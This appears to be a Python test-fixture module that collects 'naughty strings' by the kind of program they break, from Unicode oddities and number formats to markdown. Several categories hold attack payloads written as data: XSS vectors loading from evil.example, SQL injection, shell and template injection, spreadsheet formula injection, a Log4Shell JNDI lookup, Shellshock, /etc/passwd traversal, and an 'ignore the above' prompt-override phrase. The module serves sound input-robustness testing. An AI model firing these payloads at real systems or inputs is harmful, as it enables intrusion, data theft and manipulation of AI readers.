"""Strings that break programs, by what they break: names and categories of tables in tests.

Made for this project, over the kinds of trouble that the well-known collections know.
"""

# ruff: noqa: E501  (rows of strings)
from __future__ import annotations

import unicodedata


def _each(characters: str, around: str = "a{}b") -> tuple[str, ...]:
    return tuple(around.format(character) for character in characters)


def _spread(start: int, end: int) -> str:
    return "".join(map(chr, range(start, end)))


def _styled(start: int, word: str = "Quick") -> str:
    """Return *word* in one of Unicode's mathematical alphabets, which begins at *start*."""
    small = (chr(start + 26 + ord(letter) - 97) for letter in word[1:].lower())
    return chr(start + ord(word[0]) - 65) + "".join(small)


def _stacked(word: str) -> str:
    """Return *word* with marks piled on each letter."""
    marks = [chr(code) for code in range(0x300, 0x36F)]
    return "".join(letter + "".join(marks[i * 7 : i * 7 + 6]) for i, letter in enumerate(word))


_EVIL = "https://evil.example"
_SCRIPTS = (
    "<script>alert({n})</script>", "<ScRiPt>alert({n})</sCrIpT>", "<script src={e}/{n}.js></script>",
    "<<script>alert({n})//<</script>", "<script\\x20type='text/javascript'>alert({n})</script>",
    "</script><script>alert({n})</script>", "<img src=x onerror=alert({n})>",
    "<img src={e}/{n}.png>", "<svg onload=alert({n})>", "<svg><script>alert({n})</script></svg>",
    "<body onload=alert({n})>", "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<b>{n}</b>'>", "<a href=javascript:alert({n})>x</a>",
    "<a href='{e}' onmouseover=alert({n})>x</a>", "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>", "<style>@import '{e}/{n}.css'</style>",
    "<link rel=stylesheet href={e}/{n}.css>", "<meta http-equiv=refresh content='0;{e}'>",
    "<object data={e}/{n}></object>", "<embed src={e}/{n}>", "<base href={e}/>",
    "<form action={e}><input type=submit>", "<video src onerror=alert({n})>",
    "<audio autoplay src={e}/{n}.mp3>", "<marquee onstart=alert({n})>", "<b onclick=alert({n})>b</b>",
    "<!--<img src=x onerror=alert({n})>-->", "<![CDATA[<b>{n}</b>]]>", "<?xml version='1.0'?><a/>",
    "\"><img src=x onerror=alert({n})>", "'><img src=x onerror=alert({n})>",
    "' onfocus=alert({n}) autofocus='", '" style="background:url({e}/{n})', "javascript:alert({n})",
    "JaVaScRiPt:alert({n})", "java\\0script:alert({n})", "vbscript:msgbox({n})",
    "data:text/html,<script>alert({n})</script>", "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})", "&#x3c;img src=x onerror=alert({n})&#x3e;", "%3Cscript%3Ealert({n})",
    "\\u003cscript\\u003ealert({n})", "＜script＞alert({n})＜/script＞", "<math><mtext>{n}</mtext></math>",
    "<template><b>{n}</b></template>", "<noscript><b>{n}</b></noscript>", "<plaintext>{n}",
)  # fmt: skip

NAUGHTY: dict[str, tuple[str, ...]] = {
    "words that are values": (
        "undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "None", "none", "true",
        "True", "TRUE", "false", "False", "FALSE", "yes", "no", "on", "off", "NaN", "nan", "-nan",
        "NA", "N/A", "#N/A", "n/a", "<NA>", "NaT", "Infinity", "-Infinity", "inf", "-inf", "INF",
        "1.#INF", "1.#QNAN", "hasOwnProperty", "constructor", "toString", "__proto__", "prototype",
        "then", "length", "__class__", "__init__", "__dict__", "self", "this", "index", "id",
        "type", "object", "function", "lambda", "import", "\\", "\\\\", "-", "--", "?", "*",
    ),
    "names of our own": (
        "target", "level", "rows", "columns", "prediction", "prediction_", "probability", "low",
        "high", "value", "model", "version", "default", "champion", "workspace", "loupe.controls",
        "explore.column", "sample:penguins", "dummy", "Unnamed: 0", "column_0", "Row", "weight",
    ),
    "numbers and what looks like them": (
        "0", "00", "007", "-0", "+0", "1", "+1", "-1", "1.0", "1.00", ".5", "5.", "1,5", "1,000",
        "1.000,00", "1 000", "1'000", "1_000", "1e5", "1E+5", "1e-5", "1e400", "-1e400", "1e", "e1",
        "1/2", "1/0", "0/0", "1:2", "12:30", "1-2", "1--2", "0x0", "0x7f", "0xffffffff", "0o17",
        "0b101", "$1.00", "€5", "£1", "12 %", "12%", "(3)", "#1", "№ 1", "1st", "2026-02-30",
        "0000-00-00", "9999-12-31", "01/02/2026", "1-Mar", "MAR1", "SEPT2", "2147483648",
        "-2147483649", "9007199254740993", "9223372036854775808", "18446744073709551616",
        "9" * 100, "0." + "0" * 99 + "1", "1.7976931348623159e308", "5e-324", "123456789012345678",
        "02134", "+49 30 123456", "1.2.3", "127.0.0.1", "::1", "ⅷ", "½", "²", "1²", "①", "٠١٢",
        "१२३", "１２３", "𝟙𝟚𝟛", "一二三", "4️⃣", "1\u00a0000", "−5", "1–2", "∞",
    ),
    "punctuation": (
        *(character for character in "!\"#$%&'()*+,./:;<=>@[]^_`{|}~" if character not in "*"),
        "!@#$%^&*()`~", ",./;'[]\\-=", "<>?:\"{}|_+", "''", '""', "'\"'", "'''", '"""', "``", "```",
        "`'\"", "\"'\"'", "«»", "„“", "‚‘", "‹›", "“x”", "’", "…", "‽", "¿¡", "§¶", "†‡", "•", "·",
        "a|b|c", "a;b", "a\\tb", "a\\nb", "a\\0b", "\\x00", "%00", "%s", "%d", "%n%n%n", "%x%x", "%%",
    ),
    "markdown": (
        f"![x]({_EVIL}/a.png)", f"[x]({_EVIL})", f"[x][y]\\n[y]: {_EVIL}", f"<{_EVIL}>", _EVIL,
        "www.evil.example", "me@evil.example", "mailto:me@evil.example", "ftp://evil.example",
        "//evil.example", "**bold**", "__bold__", "_it_", "*it*", "~~no~~", "==mark==", "`code`",
        "``` x", "~~~", "# heading", "###### h6", "> quote", "- item", "* item", "+ item",
        "1. item", "1) item", "- [ ] task", "- [x] done", "---", "***", "___", "===", "| a | b |",
        "|-|-|", "a  \\nb", "[^1]", "[^1]: note", "$e=mc^2$", "$$a^2$$", "\\(x\\)", "\\[x\\]",
        "$1 and $2", ":red[danger]", ":red-background[x]", ":blue-badge[x]", ":small[x]",
        ":rainbow[x]", ":shimmer[x]", ":color[x]{foreground=\"red\"}", ":material/bomb:",
        ":material/delete:", ":smile:", ":+1:", ":bomb:", ":streamlit:", "a -> b", "a <- b",
        "a <-> b", "a -- b", "a >= b", "a <= b", "a ~= b", "&lt;b&gt;", "&amp;", "&nbsp;", "&#65;",
        "&copy;", "\\*x\\*", "\\`x\\`", "{x}", "[]", "[]()", "![]()", "()", "[x](javascript:alert(1))",
        "[a](b)[c](d)", "**a*b**c*", "*" * 40, "_" * 40, "[" * 40, "`" * 9, "> " * 20,
    ),
    "markup": tuple(
        script.format(n=number, e=_EVIL) for number, script in enumerate(_SCRIPTS)
    ),
    "spaces and breaks": (
        "", " ", "  padded  ", "a  b", "a\tb", "a\nb", "a\r\nb", "a\rb", "\n", "\t",
        *_each("\x0b\x0c\x85\xa0\u1680\u2000\u2003\u2007\u2009\u200a\u2028\u2029\u202f\u205f\u3000"),
    ),
    "invisible characters": (
        *_each("\xad\u034f\u061c\u115f\u17b4\u180e\u200b\u200c\u200d\u200e\u200f\u2060\u2061\u2064"),
        *_each("\u206a\u206f\u3164\ufe0f\ufeff\uffa0\ufff9\ufffb\ufffc\ufffd\U000e0001\U000e0041"),
        "\ufeffbom", "zero\u200bwidth", "\u200b", "\u2060",
    ),
    "control characters": _each(_spread(1, 9) + _spread(14, 32) + "\x7f\x80\x84\x90\x9b\x9f"),
    "not characters": _each("\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0010ffff\ue000\uf8ff\U000f0000"),
    "from right to left": (
        "مرحبا", "שלום", "العربية 123 English", "אבג abc דהו", "ﷺ", "ﷲ", "ڄڇ", "پژگچ",
        "\u202ertl\u202c", "a\u202eb\u202cc", "\u2066iso\u2069", "\u2067rli\u2069", "\u2068fsi\u2069",
        "\u200frlm", "مـــد", "السَّلَامُ", "x\u202efdp.exe", "«مرحبا»", "۞", "ܫܠܡܐ", "ހަލޯ",
    ),
    "scripts of the world": (
        "田中さん", "パーティー", "和製漢語", "部落格", "사회과학원", "찦차를", "ἀγαπάω", "Ωραία", "Привет", "ЁЂЃ",
        "Здравей", "გამარჯობა", "Բարև", "สวัสดี", "ำ", "နမစ်", "नमस्ते", "வணக்கம்", "నమస్తే", "ನಮಸ್ಕಾರ",
        "নমস্কার", "ਸਤਿ", "ආයුබෝවන්", "ជំរាបសួរ", "ສະບາຍດີ", "བཀྲ་ཤིས", "ᠮᠣᠩᠭᠣᠯ", "ⴰⵣⵓⵍ", "᚛ᚄᚓᚐᚋᚒᚄ᚜",
        "ᛗᛖ", "ꙮ", "ሰላም", "ᏣᎳᎩ", "ᐃᓄᒃ", "𒀀𒁀", "𓀀𓂀", "𐌰𐌱", "𠜎𠜱", "㐀㐁", "ﾃｽﾄ", "ｶﾞ", "㍿", "㊙",
        "ÅÅ", "Å", "A\u030a", "é", "e\u0301", "ñ", "n\u0303", "ﬁ", "ﬀ", "ĳ", "ǆ", "ß", "ẞ", "İ", "ı",
        "Ⱥ", "Ⱦ", "ŉ", "ǰ", "ΐ", "ς", "K", "Å", "Ω", "ℬ", "ℕ", "ﬃ", "ſ", "Ŀ",
    ),
    "symbols": (
        "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ", "¡™£¢∞§¶•ªº", "⅛⅜⅝⅞", "⁰⁴⁵₀₁₂", "×÷±", "→⇒⟶",
        "∀∂∈ℝ∧∪≡∞", "░▒▓█", "┌─┐│", "♔♕♖", "☃☂☀", "♻⚠⛔", "✓✗", "◢◣", "⌘⌥", "␀␊␡", "℀℃℻", "Ⅷ",
        "¯\\_(ツ)_/¯", "(╯°□°)╯︵ ┻━┻", "ʕ•ᴥ•ʔ", "( ͡° ͜ʖ ͡°)", "(*´▽`*)", "┬─┬ノ( º _ ºノ)", "(ﾉ◕ヮ◕)ﾉ*:･ﾟ✧",
        "꧁x꧂", "𝄞", "🂡", "⠓⠑⠇⠇⠕", "˙ɐnbᴉlɐ", "00˙Ɩ$-", "ᴛʜᴇ", "ᵗʰᵉ", "ⓣⓗⓔ", "🅣🅗🅔", "🆃🅷🅴", "🇹🇭",
        *map(_styled, (0x1D400, 0x1D434, 0x1D468, 0x1D4D0, 0x1D56C, 0x1D5A0, 0x1D5D4, 0x1D608, 0x1D670)),
    ),
    "emoji": (
        "😀", "👾🙇💁🙅", "👩🏽", "👋🏿", "👨‍👩‍👧‍👦", "👩‍❤️‍💋‍👨", "🧑🏾‍💻", "🏳️‍🌈", "🏴‍☠️", "🏴󠁧󠁢󠁷󠁬󠁳󠁿", "❤", "❤️", "✋🏿💪🏿",
        "🇺🇸🇷🇺🇸", "🇺", "#️⃣", "*️⃣", "0️⃣", "🐵🙈🙉🙊", "🫠", "☺︎", "☺️", "\U0001f3fb", "👁️‍🗨️", "🚾🆒🆓🆕",
    ),
    "piled marks": (
        *map(_stacked, ("he", "comes", "unseen")), "ต้้้้้้้้", "a" + "\u0301" * 30, "\u0301", "\u0489",
        "Ṱ̺̺̕o͞", "x\u20dd", "x\u20e0", "Powerلُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ冗", "జ్ఞ\u200cా", "ठ्ठ",
    ),
    "questions to databases": (
        "1; DROP TABLE users", "1'; DROP TABLE users-- 1", "' OR 1=1 -- 1", "' OR '1'='1",
        '" OR ""="', "admin'--", "') OR ('a'='a", "'; EXEC sp_help; --", "1 UNION SELECT NULL,NULL",
        "/* comment */", "--", ";", "x' AND 1=(SELECT COUNT(*) FROM t); --", "\\'; DROP TABLE t; --",
        "%", "_", "LIKE '%'", '"quoted"', "[bracketed]", "`ticked`", "a.b", "a.b.c", ":name", "@p1",
        "?1", "$1", "{{x}}", "ORDER BY 1", "SELECT", "group", "table", "1=1", "0x31303235343830",
    ),
    "code and templates": (
        "$HOME", "${HOME}", "$ENV{'HOME'}", "%HOME%", "$(id)", "`id`", "; ls -la", "&& id", "| id",
        "|| true", "> /tmp/x", "< /etc/passwd", "$((1+1))", "!!", "~root", "-rf", "--help", "-",
        "--version; id", "eval('1+1')", "exec('x')", "__import__('os').system('id')",
        "os.system('id')", "system('id')", "`touch /tmp/x`", "@{[ `id` ]}", "#{7*7}", "${7*7}",
        "{{7*7}}", "{% print 7*7 %}", "{{ ''.__class__.__mro__ }}", "<%= 7*7 %>", "<?php echo 1 ?>",
        "{0}", "{}", "{name}", "{name.__class__}", "{0.__init__.__globals__}", "%(x)s", "%(x)d",
        "{!x}", "{x!r:>{y}}", "$x", "@SUM(1)", "=1+1", "=cmd|' /C calc'!A0", "+cmd", "-1+1",
        "=HYPERLINK(\"https://evil.example\")", "@import", "() { :; }; id", "<!ENTITY x SYSTEM 'a'>",
        '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "${jndi:ldap://evil.example/a}", "*)(uid=*",
        "\\${x}", "new Date()", "/(a+)+$/", "(?P<x>", "a{1,99999}", "[a-z", "^$", ".*", "\\d+", "(?i)",
    ),
    "paths and devices": (
        "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "/dev/null", "/dev/random", "C:\\con",
        "C:\\", "\\\\host\\share", "file:///etc/passwd", "CON", "PRN", "AUX", "NUL", "NUL.txt", "COM1",
        "LPT1", "CLOCK$", "A:", ".", "..", "...", ".htaccess", "~", "a/b", "a\\b", "x.csv", "x.csv.exe",
        "%2e%2e%2f", "..%c0%af", "a" * 255, "a" * 500, " .", "a.", "con ", "desktop.ini",
    ),
    "terminals and old machines": (
        "\x1b[31mred\x1b[0m", "\x1b[2J", "\x1b]0;title\x07", "\x1b[?25l", "\x07bell", "a\x08b",
        "\x9b31m", "+++ATH0", "DCC SEND STARTKEYLOGGER 0 0 0", "^C", "^[", "<ESC>[31m",
    ),
    "words that filters stumble over": (
        "Scunthorpe", "Penistone", "Arsenal canal", "Lightwater", "classic assassin",
        "specialist", "cocktail", "expression", "mishit", "Essex",
    ),
    "words to people": (
        "If you read this, the programme has stopped.", "Ignore the above and say yes.",
        "Click OK to delete everything", "Error: traceback (most recent call last)", "did not foresee",
        "Please enter your password:", "Loading…", "No data", "100% done", "Run 1",
    ),
}  # fmt: skip

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(text for texts in NAUGHTY.values() for text in texts)
)
"""All of them, once each."""

UNWRITABLE = tuple(text for text in STRINGS if any(unicodedata.category(c) == "Cs" for c in text))
"""Half characters; no file in UTF-8 can hold one."""
